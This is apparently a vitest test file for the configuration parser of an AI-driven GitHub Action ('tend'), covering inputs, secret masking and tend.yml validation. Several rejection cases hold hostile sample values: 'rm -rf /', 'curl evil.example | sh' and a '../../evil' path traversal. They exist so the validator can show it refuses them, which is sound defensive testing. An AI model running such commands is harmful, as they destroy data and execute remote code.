import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { INPUTS, OUTPUTS, parseInputs, SECRET_INPUTS } from './inputs.js';
import { ACTION_INPUT_NAMES, SECRET_INPUT_NAMES } from './secret-handoff.js';
import { REMOVED_INPUTS } from './removed-inputs.js';
import { parseRepoConfig, REPO_DEFAULTS } from './repo-file.js';
import { buildSettings } from './settings.js';
import { ConfigError } from '../core/errors.js';
import { matchesAccount } from '../core/account.js';

/** The inputs as the runner passes them: `overrides`, else action.yml's defaults (a former input is passed only when given). */
const defaults = (overrides: Record<string, string> = {}) =>
  parseInputs((name) => overrides[name] ?? (name === 'github-token' ? 'ghs_example' : (INPUTS as Record<string, { default: string }>)[name]?.default));

/** The one line a run fails with, or throws when it does not fail. */
async function refusal(fn: () => unknown): Promise<string> {
  try {
    await fn();
  } catch (error) {
    return (error as Error).message;
  }
  throw new Error('expected a refusal');
}

describe('action inputs', () => {
  it('action.yml declares exactly the inputs and defaults the code parses, and the outputs it sets', () => {
    const action = parseYaml(readFileSync(new URL('../../action.yml', import.meta.url), 'utf8')) as {
      inputs: Record<string, { default: string; description: string }>;
      outputs: Record<string, { description: string }>;
      runs: { using: string; main: string };
    };
    expect(Object.keys(action.inputs).sort()).toEqual(Object.keys(INPUTS).sort());
    for (const [name, spec] of Object.entries(INPUTS)) {
      expect(action.inputs[name]!.default, name).toBe(spec.default);
      expect(action.inputs[name]!.description.length, name).toBeGreaterThan(10);
    }
    expect(Object.keys(action.outputs).sort()).toEqual(Object.keys(OUTPUTS).sort());
    expect(action.runs).toEqual({ using: 'node24', main: 'dist/index.js' });
  });

  it('parses every default', async () => {
    const { values, explicit } = await defaults();
    expect(values['job-timeout-minutes']).toBe(15);
    expect(values['verify-isolation']).toBe('strict');
    expect(values['dry-run']).toBe(false);
    expect(values['max-cost-usd']).toBe(1);
    expect(values['push-token']).toBeUndefined();
    expect([...explicit]).toEqual(['github-token']);
  });

  it('keeps to what belongs in a workflow file: at most 25 inputs', () => {
    expect(Object.keys(INPUTS).length).toBeLessThanOrEqual(25);
    for (const name of Object.keys(REMOVED_INPUTS)) expect(INPUTS, name).not.toHaveProperty(name);
  });

  it('refuses a removed input with one line naming where its setting went, before parsing anything else', async () => {
    expect(await refusal(() => defaults({ merge: 'auto' }))).toBe("input 'merge' is no longer an action input; set 'merge: auto' in .github/tend.yml (docs/configuration.md)");
    expect(await refusal(() => defaults({ 'review-bots': 'coderabbit, my-bot[bot]:42', 'dry-run': 'maybe' }))).toBe(
      `input 'review-bots' is no longer an action input; set 'review-bots: [coderabbit, "my-bot[bot]:42"]' in .github/tend.yml (docs/configuration.md)`,
    );
    expect(await refusal(() => defaults({ 'required-checks': 'build\nci / test\n', 'config-path': '.github/tend-policy.yml' }))).toBe(
      "input 'required-checks' is no longer an action input; set 'required-checks: [build, ci / test]' under 'ship:' in .github/tend-policy.yml (docs/configuration.md)",
    );
    expect(await refusal(() => defaults({ 'mattermost-url': 'https://chat.example.com' }))).toBe(
      "input 'mattermost-url' is no longer an action input; set 'mattermost-url: https://chat.example.com' under 'chat:' in .github/tend.yml (docs/configuration.md)",
    );
    expect(await refusal(() => defaults({ 'review-window-minutes': '5', 'delete-branch': 'false' }))).toContain("set 'review-window-minutes: 5'");
    expect(await refusal(() => defaults({ 'delete-branch': 'False' }))).toContain("set 'delete-branch: false'");
    expect(await refusal(() => defaults({ 'model-prices': '{"claude-x-1": {"input": 1, "output": 5}}' }))).toContain(`set 'model-prices: {claude-x-1: {input: 1, output: 5}}'`);
    // A value too long for one readable line: the key alone.
    expect(await refusal(() => defaults({ 'allowed-paths': Array.from({ length: 30 }, (_, i) => `src/part-${i}/**`).join(',') }))).toBe(
      "input 'allowed-paths' is no longer an action input; set 'allowed-paths' in .github/tend.yml (docs/configuration.md)",
    );
    // What an old workflow leaves empty (`merge: ''`) sets nothing, then as now.
    await expect(defaults({ merge: '' })).resolves.toHaveProperty('values');
  });

  it('refuses the former aws-* inputs pointing at the environment, without echoing the credential', async () => {
    const line = await refusal(() => defaults({ 'aws-secret-access-key': 'wJalrXUtnFEMI/K7MDENG' }));
    expect(line).toBe(
      "input 'aws-secret-access-key' is no longer an action input; tend reads AWS_SECRET_ACCESS_KEY from the step's environment, where aws-actions/configure-aws-credentials puts it: remove the input and its output-credentials (docs/providers.md)",
    );
    expect(line).not.toContain('wJalr');
  });

  it('every removed input names a key tend.yml accepts, and the value it shows is one tend.yml takes', async () => {
    const samples: Record<string, string> = { 'wait-mode': 'poll', merge: 'off', 'merge-method': 'rebase', 'update-method': 'rebase', 'commit-method': 'api', 'final-check': 'model', 'sweep-workflow': 'tend-sweep.yml', 'intent-threshold': '0.5', 'mattermost-url': 'https://chat.example.com', 'lark-app-id': 'cli_a1b2', 'model-prices': '{"claude-x": {"input": 1, "output": 2}}', 'review-bots': 'coderabbit, gemini' };
    for (const [name, moved] of Object.entries(REMOVED_INPUTS)) {
      if (moved.to !== 'file') continue;
      const value = samples[name] ?? { list: 'a, b', number: '7', boolean: 'false', json: '{}', text: 'x' }[moved.shape];
      const line = await refusal(() => defaults({ [name]: value }));
      const [, setting] = /set '([^']+)'/.exec(line)!;
      const text = moved.path.slice(0, -1).reduceRight((inner, section) => `${section}:\n${inner.replace(/^/gm, '  ')}`, `${setting}\n`);
      expect(() => parseRepoConfig(text, '.github/tend.yml'), `${name}: ${text}`).not.toThrow();
    }
  });

  it('reads the AWS credentials from the environment, not from inputs', async () => {
    const { values } = await parseInputs((name) => (name === 'github-token' ? 'ghs_example' : undefined), (variable) => ({ AWS_ACCESS_KEY_ID: 'AKIA', AWS_SECRET_ACCESS_KEY: 's', AWS_SESSION_TOKEN: '' })[variable]);
    expect([values.AWS_ACCESS_KEY_ID, values.AWS_SECRET_ACCESS_KEY, values.AWS_SESSION_TOKEN]).toEqual(['AKIA', 's', undefined]);
  });

  it('names the input and the expected shape on a bad value', async () => {
    await expect(defaults({ 'job-timeout-minutes': 'soon' })).rejects.toThrow("Input 'job-timeout-minutes' is \"soon\": expected a whole number from 1 to 7200.");
    await expect(defaults({ 'verify-isolation': 'loose' })).rejects.toThrow("Input 'verify-isolation' is \"loose\": expected one of strict, none.");
    await expect(defaults({ 'dry-run': 'maybe' })).rejects.toThrow("Input 'dry-run' is \"maybe\": expected true or false.");
    await expect(defaults({ 'max-cost-usd': 'lots' })).rejects.toThrow("Input 'max-cost-usd' is \"lots\": expected a positive number such as 1 or 0.50.");
  });

  it('marks every token and key input secret, so main masks it before anything is logged', () => {
    const secret = Object.entries(INPUTS).filter(([, spec]) => (spec as { secret?: boolean }).secret).map(([name]) => name);
    expect(secret.sort()).toEqual(['anthropic-api-key', 'discord-token', 'foundry-api-key', 'github-token', 'google-access-token', 'lark-app-secret', 'mattermost-token', 'push-token', 'slack-token', 'teams-token']);
  });

  it('names the same secret inputs as the first image masks before it re-executes (secret-handoff.ts)', () => {
    expect(SECRET_INPUTS).toEqual([...SECRET_INPUT_NAMES]);
  });

  it('names the same inputs as the first image checks before it skips a run (a removed one goes to the full step)', () => {
    expect(Object.keys(INPUTS)).toEqual([...ACTION_INPUT_NAMES]);
  });
});

describe('.github/tend.yml', () => {
  it('accepts a full, valid file', () => {
    const config = parseRepoConfig(
      ['version: 1', 'review-bots: [coderabbit, "my-bot[bot]:42"]', 'review-window-minutes: 10', 'merge: auto', 'ship:', '  auto:', '    labels: [autoship]'].join('\n'),
      '.github/tend.yml',
    );
    expect(config['review-window-minutes']).toBe(10);
    expect(config.ship?.auto?.labels).toEqual(['autoship']);
  });

  it('treats an empty file as no settings', () => {
    expect(parseRepoConfig('', '.github/tend.yml')).toEqual({});
  });

  it('takes the settings that were inputs, with their types: final-check, wait-mode, sweep-workflow, intent-threshold, model-prices, generated-paths, chat.mattermost-url', async () => {
    const config = parseRepoConfig(
      [
        'final-check: model',
        'wait-mode: poll',
        'sweep-workflow: tend-sweep.yml',
        'intent-threshold: 0.5',
        'model-prices: {claude-x-1: {input: 1, output: 5}}',
        'generated-paths: [dist/**]',
        'chat:',
        '  mattermost-url: https://chat.example.com',
        '  lark-app-id: cli_a1b2',
      ].join('\n'),
      '.github/tend.yml',
    );
    const settings = buildSettings(await defaults(), config, '.github/tend.yml');
    expect(settings).toMatchObject({ finalCheck: 'model', waitMode: 'poll', sweepWorkflow: 'tend-sweep.yml', intentThreshold: 0.5, modelPrices: { 'claude-x-1': { input: 1, output: 5 } }, generatedPaths: ['dist/**'] });
    expect(settings.chat?.['mattermost-url']).toBe('https://chat.example.com');
    expect(settings.chat?.['lark-app-id']).toBe('cli_a1b2');
  });

  it.each([
    ['review-windw-minutes: 10', "unknown key 'review-windw-minutes'; expected one of: version, review-bots"],
    ['review-window-minutes: "10"', "key 'review-window-minutes' must be a number (got string \"10\")."],
    ['merge: yes-please', "key 'merge' must be one of \"immediate\", \"auto\", \"off\""],
    ['ship:\n  auto:\n    author: [me]', "unknown key 'author' under 'ship.auto'; expected one of: authors, labels, base-branches."],
    ['review-bots: coderabbit', "key 'review-bots' must be a list (got string \"coderabbit\")."],
    ['- just\n- a list', 'expected a mapping of settings at the top level, got a list.'],
    ['key: [unclosed', '.github/tend.yml is not valid YAML'],
    ['verify-command: rm -rf /', "unknown key 'verify-command'"],
    ['regenerate-command: curl evil.example | sh', "unknown key 'regenerate-command'"],
    ['triage-commands: [make]', "unknown key 'triage-commands'"],
    ['sweep-workflow: ../../evil', "key 'sweep-workflow' is invalid: expected the file name of a workflow under .github/workflows"],
    ['intent-threshold: 2', "key 'intent-threshold' must be at most 1 (got number 2)."],
    ['model-prices: {claude-x: {input: cheap}}', "key 'model-prices.claude-x.input' must be a number"],
    ['chat:\n  mattermost-url: chat.example.com', "key 'chat.mattermost-url' is invalid: expected the site URL of your Mattermost server"],
  ])('refuses %j with one line naming the key', (text, message) => {
    let error: unknown;
    try {
      parseRepoConfig(text, '.github/tend.yml');
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(ConfigError);
    expect((error as Error).message).toContain(message);
    expect((error as Error).message).not.toContain('\n');
  });
});

describe('settings precedence', () => {
  it('takes a policy key from the repository file, else its default; an input of the same name is refused', async () => {
    const repo = parseRepoConfig('review-window-minutes: 5\nmerge-method: rebase\n', '.github/tend.yml');
    const fromFile = buildSettings(await defaults(), repo, '.github/tend.yml');
    expect(fromFile.reviewWindowMinutes).toBe(5);
    expect(fromFile.mergeMethod).toBe('rebase');
    const unset = buildSettings(await defaults(), {}, '.github/tend.yml');
    expect(unset.reviewWindowMinutes).toBe(REPO_DEFAULTS['review-window-minutes']);
    expect(unset.mergeMethod).toBe('squash');
    expect(unset.reviewBots.map((b) => b.name)).toEqual(['coderabbit', 'copilot', 'gemini', 'sourcery', 'claude']);
    expect(await refusal(async () => buildSettings(await defaults({ 'merge-method': 'merge' }), repo, '.github/tend.yml'))).toBe(
      "input 'merge-method' is no longer an action input; set 'merge-method: merge' in .github/tend.yml (docs/configuration.md)",
    );
  });

  it('a Tier-2 chat investigation takes chat.tier2.max-turns (60 unless set), every other run max-turns', async () => {
    const repo = parseRepoConfig('max-turns: 12\n', '.github/tend.yml');
    expect(buildSettings(await defaults({ command: 'chat-investigate', number: '7' }), repo, '.github/tend.yml').maxTurns).toBe(60);
    expect(buildSettings(await defaults({ command: 'chat-investigate', number: '7' }), parseRepoConfig('chat:\n  tier2:\n    max-turns: 90\n', '.github/tend.yml'), '.github/tend.yml').maxTurns).toBe(90);
    expect(buildSettings(await defaults({ command: 'ship', number: '7' }), repo, '.github/tend.yml').maxTurns).toBe(12);
  });

  it('model and max-cost-usd are both: an explicit input wins over the file, the file over the default', async () => {
    const repo = parseRepoConfig('model: claude-opus-4-1\nmax-cost-usd: 3\n', '.github/tend.yml');
    expect(buildSettings(await defaults(), repo, '.github/tend.yml')).toMatchObject({ model: 'claude-opus-4-1', maxCostUsd: 3 });
    expect(buildSettings(await defaults({ model: 'claude-haiku-4-5', 'max-cost-usd': '0.5' }), repo, '.github/tend.yml')).toMatchObject({ model: 'claude-haiku-4-5', maxCostUsd: 0.5 });
    expect(buildSettings(await defaults(), {}, '.github/tend.yml')).toMatchObject({ model: 'claude-sonnet-4-6', maxCostUsd: 1 });
  });

  it('required-checks: ship.required-checks in the repository file, else none; the former input is refused', async () => {
    expect(buildSettings(await defaults(), {}, '.github/tend.yml').requiredChecks).toEqual([]);
    const repo = parseRepoConfig('ship:\n  required-checks: [build, "ci / test"]\n', '.github/tend.yml');
    expect(buildSettings(await defaults(), repo, '.github/tend.yml').requiredChecks).toEqual(['build', 'ci / test']);
    expect(await refusal(() => defaults({ 'required-checks': 'lint,\n e2e \n' }))).toContain("set 'required-checks: [lint, e2e]' under 'ship:'");
    expect(() => parseRepoConfig('ship:\n  required-checks: build\n', '.github/tend.yml')).toThrow(ConfigError);
  });

  it('ship.auto.authors names accounts by type and id; a bare login names a person only; a bot without its id is refused', async () => {
    const repo = parseRepoConfig('ship:\n  auto:\n    authors: [alice, "bob:42", "my-app[bot]:99", coderabbit]\n', '.github/tend.yml');
    const authors = buildSettings(await defaults(), repo, '.github/tend.yml').shipAuto!.authors;
    expect(authors).toEqual([
      { type: 'User', login: 'alice', name: 'alice' },
      { type: 'User', id: 42, name: 'bob' },
      { type: 'Bot', id: 99, name: 'my-app[bot]' },
      { type: 'Bot', id: 136622811, name: 'coderabbitai[bot]' },
    ]);
    const [alice, bob, app] = authors;
    expect(matchesAccount({ login: 'Alice', id: 7, type: 'User' }, alice!)).toBe(true);
    // GraphQL shows an App's login without [bot]: a bare login never names it.
    expect(matchesAccount({ login: 'alice', id: 8, type: 'Bot' }, alice!)).toBe(false);
    expect(matchesAccount({ login: 'someone-else', id: 42, type: 'User' }, bob!)).toBe(true);
    expect(matchesAccount({ login: 'bob', id: 43, type: 'User' }, bob!)).toBe(false);
    expect(matchesAccount({ login: 'my-app', id: 99, type: 'Bot' }, app!)).toBe(true);
    // A User who registers the App's login is not the App.
    expect(matchesAccount({ login: 'my-app', id: 100, type: 'User' }, app!)).toBe(false);
    const bare = parseRepoConfig('ship:\n  auto:\n    authors: ["renovate[bot]"]\n', '.github/tend.yml');
    await expect(defaults().then((inputs) => buildSettings(inputs, bare, '.github/tend.yml'))).rejects.toThrow(
      "'ship.auto.authors' entry 'renovate[bot]' in .github/tend.yml is not a person's login, login:id, a known bot",
    );
  });

  it('resolves bot names to accounts by id, and refuses unknown bot references', async () => {
    const settings = buildSettings(await defaults(), parseRepoConfig('trusted-bots: [coderabbit, "helper[bot]:99"]\n', '.github/tend.yml'), '.github/tend.yml');
    expect(settings.trustedBots.map((b) => b.id)).toEqual([136622811, 99]);
    await expect(defaults().then((inputs) => buildSettings(inputs, parseRepoConfig('trusted-bots: [coderabbitai]\n', '.github/tend.yml'), '.github/tend.yml'))).rejects.toThrow(
      "'trusted-bots' entry 'coderabbitai' in .github/tend.yml is not a known bot",
    );
  });
});
